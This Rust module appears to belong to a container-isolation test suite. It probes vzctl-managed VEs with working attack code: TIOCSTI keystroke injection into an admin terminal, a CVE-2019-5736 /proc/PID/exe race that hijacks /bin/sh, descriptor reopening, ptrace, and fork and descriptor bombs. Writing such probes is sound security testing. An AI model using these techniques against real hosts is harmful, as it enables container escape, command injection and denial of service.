//! Attacks through processes and terminals: real-time scheduling past a CPU limit, the stdio
//! vzctl hands a command, TIOCSTI into the admin's terminal, /proc/PID/exe of the entering
//! vzctl (CVE-2019-5736), ptrace, fork and descriptor bombs; and the pty that stands for the
//! admin's terminal on the host side.

use super::{arg, check, check_int, deadline, ename, io_ename, number, Allowed, Outcome, Refused};
use nix::sys::signal::{kill, Signal};
use nix::sys::wait::{waitpid, WaitPidFlag, WaitStatus};
use nix::unistd::{fork, ForkResult, Pid};
use std::collections::BTreeSet;
use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::{BufRead, BufReader, Read, Write};
use std::os::fd::{AsFd, AsRawFd, BorrowedFd, OwnedFd, RawFd};
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
use std::time::{Duration, Instant};

/// fifo-spin SECONDS: switches to SCHED_FIFO, then spins for SECONDS either way (so that the
/// host sees what the VE's CPU limit makes of a busy loop).
pub fn fifo_spin(args: &[String]) -> Outcome {
    let seconds: u64 = number(&arg(args, 0, "SECONDS")?)?;
    deadline(seconds as u32 + 30);
    let param = libc::sched_param { sched_priority: 10 };
    // SAFETY: sched_setscheduler reads one sched_param.
    let fifo = check_int(unsafe { libc::sched_setscheduler(0, libc::SCHED_FIFO, &param) });
    let end = Instant::now() + Duration::from_secs(seconds);
    let mut spins = 0u64;
    while Instant::now() < end {
        spins = std::hint::black_box(spins.wrapping_add(1));
    }
    match fifo {
        Ok(_) => Ok(Allowed(format!("spun {seconds} s as SCHED_FIFO"))),
        Err(e) => Ok(Refused(format!(
            "SCHED_FIFO: {} (spun {seconds} s as SCHED_OTHER)",
            ename(e)
        ))),
    }
}

/// reopen-fd FD r|w|trunc: reopens descriptor FD through /proc/self/fd with another mode
/// and reads it, writes to it or truncates it. A pipe or socket (vzctl's relay) has nothing
/// of the host's to reach.
pub fn reopen_fd(args: &[String]) -> Outcome {
    let fd: RawFd = number(&arg(args, 0, "FD")?)?;
    let mode = arg(args, 1, "r|w|trunc")?;
    let path = format!("/proc/self/fd/{fd}");
    let link = fs::read_link(&path).map_or_else(|e| format!("({e})"), |p| p.display().to_string());
    // SAFETY: fd is only borrowed for fstat while this process has it open.
    let borrowed = unsafe { BorrowedFd::borrow_raw(fd) };
    let stat = nix::sys::stat::fstat(borrowed.as_raw_fd())
        .map_err(|e| format!("fstat {fd}: {}", ename(e)))?;
    let kind = stat.st_mode & libc::S_IFMT;
    if kind == libc::S_IFIFO || kind == libc::S_IFSOCK {
        return Ok(Refused(format!(
            "fd {fd} is a pipe or socket ({link}): nothing of the host's to reopen"
        )));
    }
    let mut options = OpenOptions::new();
    match mode.as_str() {
        "r" => options.read(true),
        "w" => options.write(true),
        "trunc" => options.write(true).truncate(true),
        other => return Err(format!("bad mode {other}")),
    };
    let mut file = match options.open(&path) {
        Ok(f) => f,
        Err(e) => {
            return Ok(Refused(format!(
                "reopen fd {fd} ({link}) for {mode}: {}",
                io_ename(&e)
            )))
        }
    };
    match mode.as_str() {
        "r" => {
            let mut buf = [0u8; 256];
            let n = file.read(&mut buf).unwrap_or(0);
            Ok(Allowed(format!(
                "reopened fd {fd} ({link}) for reading: {:?}",
                String::from_utf8_lossy(&buf[..n])
            )))
        }
        "w" => {
            let wrote = file.write_all(b"PWNED by a VE\n");
            Ok(Allowed(format!(
                "reopened fd {fd} ({link}) for writing (write: {})",
                wrote.map_or_else(|e| io_ename(&e), |_| "done".into())
            )))
        }
        _ => Ok(Allowed(format!("reopened fd {fd} ({link}) with O_TRUNC"))),
    }
}

/// tiocsti FD|PATH TEXT: pushes TEXT and a newline into a terminal's input with TIOCSTI,
/// through descriptor FD or the terminal at PATH (/dev/tty: the controlling one).
pub fn tiocsti(args: &[String]) -> Outcome {
    let target = arg(args, 0, "FD|PATH")?;
    let text = format!("{}\n", arg(args, 1, "TEXT")?);
    let opened;
    let fd = match target.parse::<RawFd>() {
        Ok(fd) => fd,
        Err(_) => {
            opened = match OpenOptions::new()
                .read(true)
                .write(true)
                .custom_flags(libc::O_NOCTTY)
                .open(&target)
            {
                Ok(f) => f,
                Err(e) => return Ok(Refused(format!("open {target}: {}", io_ename(&e)))),
            };
            opened.as_raw_fd()
        }
    };
    for byte in text.bytes() {
        // SAFETY: TIOCSTI reads one byte, which lives across the call.
        if let Err(e) = check_int(unsafe { libc::ioctl(fd, libc::TIOCSTI, &byte) }) {
            return Ok(Refused(format!("TIOCSTI on {target}: {}", ename(e))));
        }
    }
    Ok(Allowed(format!(
        "pushed {} bytes into {target}",
        text.len()
    )))
}

/// pty-run [--input TEXT [--after MARKER]] -- CMD...: the admin's terminal. Runs CMD as a
/// session leader with a new pty as its controlling terminal and stdio, relays its output to
/// stderr, types TEXT (once the output shows MARKER), and when CMD has ended reads what is
/// left in the terminal's input: text a command pushed there with TIOCSTI, which the admin's
/// shell would run next. Allowed if that holds "INJECTED".
pub fn pty_run(args: &[String]) -> Outcome {
    use nix::pty::{grantpt, posix_openpt, ptsname_r, unlockpt};
    use nix::sys::termios::{self, LocalFlags, SetArg, SpecialCharacterIndices};
    deadline(240);
    let split = args
        .iter()
        .position(|a| a == "--")
        .ok_or("pty-run: missing -- before the command")?;
    let (mut input, mut after) = (None, None);
    let mut i = 0;
    while i < split {
        match args[i].as_str() {
            "--input" => input = Some(arg(args, i + 1, "TEXT")?.replace("\\n", "\n")),
            "--after" => after = Some(arg(args, i + 1, "MARKER")?),
            other => return Err(format!("pty-run: unknown option {other}")),
        }
        i += 2;
    }
    let argv: Vec<CString> = args[split + 1..]
        .iter()
        .map(|a| CString::new(a.as_str()).map_err(|e| e.to_string()))
        .collect::<Result<_, _>>()?;
    if argv.is_empty() {
        return Err("pty-run: no command".into());
    }
    let flags = nix::fcntl::OFlag::O_RDWR | nix::fcntl::OFlag::O_NOCTTY;
    let master = posix_openpt(flags).map_err(|e| format!("posix_openpt: {e}"))?;
    grantpt(&master).map_err(|e| format!("grantpt: {e}"))?;
    unlockpt(&master).map_err(|e| format!("unlockpt: {e}"))?;
    let name = ptsname_r(&master).map_err(|e| format!("ptsname: {e}"))?;
    let slave = OpenOptions::new()
        .read(true)
        .write(true)
        .custom_flags(libc::O_NOCTTY)
        .open(&name)
        .map_err(|e| format!("open {name}: {e}"))?;
    // SAFETY: Single-threaded; the child only makes system calls and execs.
    let child = match unsafe { fork() }.map_err(|e| format!("fork: {e}"))? {
        ForkResult::Child => {
            // SAFETY: setsid, ioctl(TIOCSCTTY) and dup2 take integers; the child then execs.
            unsafe {
                libc::setsid();
                libc::ioctl(slave.as_raw_fd(), libc::TIOCSCTTY, 0);
                for fd in 0..3 {
                    libc::dup2(slave.as_raw_fd(), fd);
                }
            }
            let _ = nix::unistd::execvp(&argv[0], &argv);
            // SAFETY: Ends the child if the exec failed.
            unsafe { libc::_exit(127) }
        }
        ForkResult::Parent { child } => child,
    };
    let mut out = Vec::new();
    let mut status = None;
    let mut typed = input.is_none();
    let started = Instant::now();
    let mut ended_at = None;
    loop {
        let mut fds = [nix::poll::PollFd::new(
            master.as_fd(),
            nix::poll::PollFlags::POLLIN,
        )];
        let ready = nix::poll::poll(&mut fds, nix::poll::PollTimeout::from(100u16)).unwrap_or(0);
        if ready > 0 {
            let mut buf = [0u8; 4096];
            // SAFETY: read writes at most buf.len() bytes into buf.
            let n = unsafe { libc::read(master.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len()) };
            if n > 0 {
                out.extend_from_slice(&buf[..n as usize]);
            }
        }
        if !typed {
            let seen = after
                .as_ref()
                .is_none_or(|m| String::from_utf8_lossy(&out).contains(m.as_str()));
            if seen || started.elapsed() > Duration::from_secs(20) {
                if let Some(text) = &input {
                    // SAFETY: write reads text.len() bytes of text.
                    unsafe { libc::write(master.as_raw_fd(), text.as_ptr().cast(), text.len()) };
                }
                typed = true;
            }
        }
        if status.is_none() {
            if let Ok(s) = waitpid(child, Some(WaitPidFlag::WNOHANG)) {
                if s != WaitStatus::StillAlive {
                    status = Some(s);
                    ended_at = Some(Instant::now());
                }
            }
        }
        if ended_at.is_some_and(|t| t.elapsed() > Duration::from_millis(300)) {
            break;
        }
    }
    eprintln!(
        "--- the terminal showed:\n{}\n---",
        String::from_utf8_lossy(&out)
    );
    // What the admin's shell would read next: the terminal's pending input, made readable
    // without a newline.
    let mut attrs = termios::tcgetattr(&slave).map_err(|e| format!("tcgetattr: {e}"))?;
    attrs
        .local_flags
        .remove(LocalFlags::ICANON | LocalFlags::ECHO);
    attrs.control_chars[SpecialCharacterIndices::VMIN as usize] = 0;
    attrs.control_chars[SpecialCharacterIndices::VTIME as usize] = 0;
    termios::tcsetattr(&slave, SetArg::TCSANOW, &attrs).map_err(|e| format!("tcsetattr: {e}"))?;
    let mut pending = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        // SAFETY: read writes at most buf.len() bytes into buf.
        let n = unsafe { libc::read(slave.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len()) };
        if n <= 0 {
            break;
        }
        pending.extend_from_slice(&buf[..n as usize]);
    }
    let pending = String::from_utf8_lossy(&pending).into_owned();
    if pending.contains("INJECTED") {
        Ok(Allowed(format!(
            "the admin's terminal holds input it never typed: {pending:?} (command {status:?})"
        )))
    } else {
        Ok(Refused(format!(
            "nothing pushed into the admin's terminal (pending {pending:?}, command {status:?})"
        )))
    }
}

/// exe-race STOPFILE SECONDS [--hijack-sh]: CVE-2019-5736. Watches the VE's /proc for a
/// process whose /proc/PID/exe is not a binary of the VE (the vzctl that enters it, before
/// it execs) and holds it open (O_PATH). With --hijack-sh, /bin/sh becomes a script run by
/// `#!/proc/self/exe`, so that the next `vzctl exec` runs vzctl's own binary inside the VE
/// (runc's attack). When STOPFILE appears (or SECONDS pass) it puts /bin/sh back and reopens
/// every binary it holds for writing, without writing. Allowed if one opens. Prints `ready`
/// first, and `caught PID TARGET` as it goes.
pub fn exe_race(args: &[String]) -> Outcome {
    let stop = arg(args, 0, "STOPFILE")?;
    let seconds: u64 = number(&arg(args, 1, "SECONDS")?)?;
    let hijack = args.get(2).is_some_and(|a| a == "--hijack-sh");
    deadline(seconds as u32 + 30);
    let own = fs::read_link("/proc/self/exe").map_err(|e| e.to_string())?;
    let ours: BTreeSet<String> = [own.display().to_string(), "/bin/busybox".to_string()].into();
    // The template's /bin/sh is a symlink to busybox. It is replaced, not renamed: ext4
    // refuses a rename into a directory of another project (EXDEV), and a symlink made by
    // tar is in none.
    let mut saved_sh = None;
    if hijack {
        let target = fs::read_link("/bin/sh").map_err(|e| format!("/bin/sh is no symlink: {e}"))?;
        fs::remove_file("/bin/sh").map_err(|e| format!("remove /bin/sh: {e}"))?;
        saved_sh = Some(target);
        let made = fs::write("/bin/sh", "#!/proc/self/exe\n")
            .and_then(|()| fs::set_permissions("/bin/sh", fs::Permissions::from_mode(0o755)));
        if let Err(e) = made {
            restore_sh(saved_sh.as_deref());
            return Err(format!("write /bin/sh: {e}"));
        }
    }
    println!("ready");
    let _ = std::io::stdout().flush();
    let me = std::process::id().to_string();
    let mut done = BTreeSet::new();
    let mut blocked = BTreeSet::new();
    let mut held: Vec<(String, OwnedFd)> = Vec::new();
    let mut unopened = Vec::new();
    let end = Instant::now() + Duration::from_secs(seconds);
    while Instant::now() < end && fs::metadata(&stop).is_err() {
        let Ok(entries) = fs::read_dir("/proc") else {
            break;
        };
        for entry in entries.flatten() {
            let pid = entry.file_name().to_string_lossy().into_owned();
            if pid == me || done.contains(&pid) || !pid.bytes().all(|b| b.is_ascii_digit()) {
                continue;
            }
            let exe = format!("/proc/{pid}/exe");
            match fs::read_link(&exe) {
                Ok(target) => {
                    let target = target.display().to_string();
                    if !ours.contains(&target) {
                        match File::options()
                            .custom_flags(libc::O_PATH)
                            .read(true)
                            .open(&exe)
                        {
                            Ok(f) => {
                                println!("caught {pid} {target}");
                                let _ = std::io::stdout().flush();
                                held.push((target, OwnedFd::from(f)));
                            }
                            Err(e) => unopened.push(format!("{target} {}", io_ename(&e))),
                        }
                    }
                    done.insert(pid);
                }
                Err(e) if matches!(e.raw_os_error(), Some(libc::EACCES) | Some(libc::EPERM)) => {
                    blocked.insert(pid);
                }
                Err(_) => {
                    done.insert(pid);
                }
            }
        }
        // SAFETY: sched_yield takes no arguments.
        unsafe { libc::sched_yield() };
    }
    restore_sh(saved_sh.as_deref());
    let mut writable = Vec::new();
    let mut refused = Vec::new();
    for (target, fd) in &held {
        let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
        match OpenOptions::new().write(true).open(&path) {
            Ok(_) => writable.push(target.clone()),
            Err(e) => refused.push(format!("{target} {}", io_ename(&e))),
        }
    }
    let summary = format!(
        "{} foreign exes held, {} opens refused ({}), {} processes whose exe was unreadable",
        held.len(),
        unopened.len(),
        unopened.join(", "),
        blocked.len()
    );
    if writable.is_empty() {
        Ok(Refused(format!(
            "{summary}; none opened for writing ({})",
            refused.join(", ")
        )))
    } else {
        Ok(Allowed(format!(
            "opened {} for writing through /proc/PID/exe; {summary}",
            writable.join(", ")
        )))
    }
}

/// Puts /bin/sh back as the symlink to `target` it was.
fn restore_sh(target: Option<&std::path::Path>) {
    if let Some(target) = target {
        let _ = fs::remove_file("/bin/sh");
        let _ = std::os::unix::fs::symlink(target, "/bin/sh");
    }
}

/// ptrace PID: PTRACE_SEIZE of PID (detached again if it worked).
pub fn ptrace(args: &[String]) -> Outcome {
    let pid: i32 = number(&arg(args, 0, "PID")?)?;
    // SAFETY: PTRACE_SEIZE with no address or data memory.
    match check(unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0usize, 0usize) }) {
        Err(e) => Ok(Refused(format!("PTRACE_SEIZE {pid}: {}", ename(e)))),
        Ok(_) => {
            // SAFETY: As above: stop the tracee, wait for the stop, detach.
            unsafe {
                libc::ptrace(libc::PTRACE_INTERRUPT, pid, 0usize, 0usize);
                libc::waitpid(pid, std::ptr::null_mut(), libc::__WALL);
                libc::ptrace(libc::PTRACE_DETACH, pid, 0usize, 0usize);
            }
            Ok(Allowed(format!("seized pid {pid}")))
        }
    }
}

fn reap(kids: &[Pid]) {
    for &kid in kids {
        let _ = kill(kid, Signal::SIGKILL);
    }
    for &kid in kids {
        let _ = waitpid(kid, None);
    }
}

/// A forked child that waits to be killed (at most 60 s).
fn sleeper() -> ! {
    // SAFETY: alarm and pause take no memory; _exit ends the child.
    unsafe {
        libc::alarm(60);
        libc::pause();
        libc::_exit(0)
    }
}

/// forkbomb MAX: forks children that stay until it has MAX or a fork fails; then kills them.
pub fn forkbomb(args: &[String]) -> Outcome {
    let max: usize = number(&arg(args, 0, "MAX")?)?;
    let mut kids = Vec::new();
    let mut failure = None;
    for _ in 0..max {
        // SAFETY: Single-threaded; the child only waits to be killed.
        match unsafe { fork() } {
            Ok(ForkResult::Child) => sleeper(),
            Ok(ForkResult::Parent { child }) => kids.push(child),
            Err(e) => {
                failure = Some(e);
                break;
            }
        }
    }
    let n = kids.len();
    reap(&kids);
    match failure {
        Some(e) => Ok(Refused(format!(
            "fork failed with {} after {n} children",
            ename(e)
        ))),
        None => Ok(Allowed(format!("{n} children and no limit"))),
    }
}

/// fdbomb CHILDREN: CHILDREN processes (per-process limit raised to the hard one) each open
/// /dev/null until refused, all holding their files at once; prints what stopped each.
pub fn fdbomb(args: &[String]) -> Outcome {
    let children: usize = number(&arg(args, 0, "CHILDREN")?)?;
    let mut limit = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: getrlimit and setrlimit read or fill one rlimit.
    unsafe {
        libc::getrlimit(libc::RLIMIT_NOFILE, &mut limit);
        limit.rlim_cur = limit.rlim_max;
        libc::setrlimit(libc::RLIMIT_NOFILE, &limit);
    }
    let (reader, writer) = nix::unistd::pipe().map_err(|e| format!("pipe: {e}"))?;
    let mut kids = Vec::new();
    for _ in 0..children {
        // SAFETY: Single-threaded; the child opens files, reports and waits to be killed.
        match unsafe { fork() }.map_err(|e| format!("fork: {e}"))? {
            ForkResult::Child => {
                let mut count = 0u64;
                let why = loop {
                    match File::open("/dev/null") {
                        Ok(f) => {
                            std::mem::forget(f);
                            count += 1;
                        }
                        Err(e) => break io_ename(&e),
                    }
                };
                let line = format!("{count} {why}\n");
                // SAFETY: write reads line.len() bytes of line.
                unsafe { libc::write(writer.as_raw_fd(), line.as_ptr().cast(), line.len()) };
                sleeper()
            }
            ForkResult::Parent { child } => kids.push(child),
        }
    }
    drop(writer);
    let mut reports = Vec::new();
    for line in BufReader::new(File::from(reader)).lines().take(children) {
        reports.push(line.map_err(|e| e.to_string())?);
    }
    reap(&kids);
    let total: u64 = reports
        .iter()
        .filter_map(|r| r.split(' ').next()?.parse::<u64>().ok())
        .sum();
    let text = format!(
        "{total} files opened in all; children stopped at: {}",
        reports.join(", ")
    );
    if reports.len() == children
        && reports
            .iter()
            .all(|r| r.contains("ENFILE") || r.contains("EMFILE"))
    {
        Ok(Refused(text))
    } else {
        Ok(Allowed(text))
    }
}
